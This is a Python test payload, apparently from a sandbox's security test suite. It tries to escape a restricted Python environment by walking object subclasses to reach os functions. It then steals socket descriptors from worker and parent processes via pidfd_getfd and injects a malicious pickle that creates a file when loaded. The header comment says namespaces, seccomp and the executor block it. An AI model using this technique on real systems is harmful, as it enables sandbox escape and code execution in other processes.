# Same uid: takes the workers' sockets to the Alchemist process with pidfd_getfd and sends a
# pickle that, if unpickled there, creates a file. Stopped by the PID namespace (the pids are
# not ours to open), seccomp (no pidfd_*), and the executor, which never unpickles a reply.
def _os_globals():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__
    raise RuntimeError("no way out found")


def label(text):
    g = _os_globals()
    ctypes, struct = g["sys"].modules["ctypes"], g["sys"].modules["struct"]
    libc = ctypes.CDLL(None, use_errno=True)
    # A pickle that calls builtins.open(path, "w") when loaded.
    frame = b"cbuiltins\nopen\n(V@EVIDENCE@/pickle_ran.txt\nVw\ntR."
    stolen = 0
    for pid in [int(p) for p in "@WORKER_PIDS@,@PARENT_PID@".split(",")]:
        pidfd = libc.syscall(434, pid, 0)  # pidfd_open
        if pidfd < 0:
            raise OSError(ctypes.get_errno(), f"pidfd_open({pid}) failed")
        for fd in range(64):
            theirs = libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd
            if theirs >= 0 and g["fstat"](theirs).st_mode & 0o170000 == 0o140000:  # a socket
                stolen += 1
                try:
                    g["write"](theirs, struct.pack("!i", len(frame)) + frame)
                except OSError:
                    pass
    g["close"](g["open"](f"@EVIDENCE@/pidfd_stole_{stolen}.txt", g["O_WRONLY"] | g["O_CREAT"]))
    return 1
